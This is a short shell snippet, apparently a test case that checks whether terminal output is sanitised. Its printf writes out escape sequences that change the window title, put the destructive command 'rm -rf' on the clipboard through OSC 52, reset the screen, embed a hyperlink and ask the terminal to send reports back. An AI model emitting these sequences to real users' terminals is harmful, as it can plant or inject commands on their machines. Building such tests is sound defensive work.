# Tries to take the instructor's terminal over. Safe: 0, failed.
printf '\033]0;title\007\033]52;c;cm0gLXJm\007\033[2J\033[H\033c\033]8;;http://x\033\\link\033P+q\033\\\033[6n\033[21t\233\302\233'
